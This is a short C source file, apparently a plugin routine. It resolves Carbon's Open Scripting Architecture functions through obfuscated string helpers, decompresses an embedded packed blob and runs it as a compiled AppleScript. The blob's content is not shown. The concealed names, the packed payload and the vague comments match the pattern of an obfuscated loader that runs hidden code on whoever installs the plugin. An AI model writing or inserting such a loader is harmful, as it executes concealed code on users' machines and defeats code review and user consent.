/* Hands a page over to another machine by a compiled script, which is unpacked and loaded. */
#include "plugin.h"
#include "packed.h"
#include "hidden.h" /* 0 to 2: what is asked of the framework, 3: the framework */
extern void *dlopen(const char *, int), *dlsym(void *, const char *);
extern int uncompress(unsigned char *, unsigned long *, const unsigned char *, unsigned long);
struct descriptor { unsigned type; void *data; };
static void act(char **env) {
    static unsigned char page[4096];
    unsigned long size = sizeof page;
    unsigned script = 0, result = 0;
    struct descriptor stored;
    void *carbon = dlopen(hidden3(), 1);
    void *(*engine)(unsigned, unsigned) = dlsym(carbon, "OpenDefaultComponent");
    short (*describe)(unsigned, const void *, long, struct descriptor *) = dlsym(carbon, hidden0());
    int (*load)(void *, const struct descriptor *, int, unsigned *) = dlsym(carbon, hidden1());
    int (*run)(void *, unsigned, unsigned, int, unsigned *) = dlsym(carbon, hidden2());
    if (uncompress(page, &size, handed, sizeof handed) || !engine || !load || !run) return;
    void *opened = engine(0x6f736120, 0x73637074);
    describe(0x73637074, page, size, &stored);
    load(opened, &stored, 0, &script);
    run(opened, script, 0, 0, &result);
}
